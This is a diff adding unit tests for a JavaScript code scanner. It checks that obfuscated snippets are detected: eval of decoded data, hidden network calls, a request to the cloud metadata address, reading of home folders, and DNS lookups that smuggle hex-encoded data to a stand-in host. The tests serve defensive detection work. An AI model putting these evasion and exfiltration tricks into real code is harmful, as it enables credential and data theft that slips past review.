@@ -211,6 +211,43 @@ TEST(CodeReading, IsNotFooledByWhatLooksLikeAComment) {
   });
 }
 
+TEST(CodeReading, SeesThroughWhatHidesNames) {
+  expect_all({
+      {"arguments[1]('https').get('https://a.example')", "network a.example"},
+      {"ev\\u0061l(atob(x))", "dynamic-code decoded"},
+      {"const r\\u0065q = require; req('https').get('https://a.example')", "network a.example"},
+      {"Function('return this')().fetch('https://a.example')", "network a.example"},
+      {"(0, eval)('require')('https').get('https://a.example')", "network a.example"},
+      {"new Function('return process')().mainModule.require('https').get('https://a.example')",
+       "network a.example"},
+      {"require('module').prototype.require.call(module, 'https').get('https://a.example')",
+       "network a.example"},
+      {"globalThis.process.mainModule.constructor._load('https').get('https://a.example')",
+       "network a.example"},
+      {"[require][0]('https').get('https://a.example')", "network a.example"},
+      {"this.constructor.constructor(atob(x))()", "dynamic-code decoded"},
+      {"require.extensions['.x'] = (m, f) => m._compile(require('fs').readFileSync(f), f)",
+       "(dynamic-code read), global-patching require.extensions..x"},
+      {"'' + {toString() { fetch('https://a.example') }}", "network a.example"},
+      {"const s = document.createElement('script'); s.src = 'https://a.example/x.js'",
+       "network a.example"},
+      {"fetch('http://169.254.169.254/latest/meta-data/')",
+       "network 169.254.169.254, secrets cloud metadata"},
+      {"require('fs').readdirSync(require('os').homedir())", "secrets home folders"},
+      {"require('dns').lookup(Buffer.from(x).toString('hex') + '.a.example')", "dns *.a.example"},
+  });
+}
+
+// Chains and nests of any length cost what their text costs.
+TEST(CodeReading, TakesLongChains) {
+  std::string chain = "a";
+  for (int i = 0; i < 3000; ++i) chain += ".b(1)";
+  EXPECT_EQ(found(chain + ";fetch('https://a.example')"), "network a.example");
+  std::string sum = "fetch('https://a' ";
+  for (int i = 0; i < 3000; ++i) sum += "+ 'b'";
+  EXPECT_EQ(found(sum + " + '.example')").substr(0, 10), "network ab");
+}
+
 TEST(CodeReading, SaysWhatWasNotRead) {
   EXPECT_EQ(read_code("a.js", "((((").reading.unread, "errors");
   ParseLimits limits;
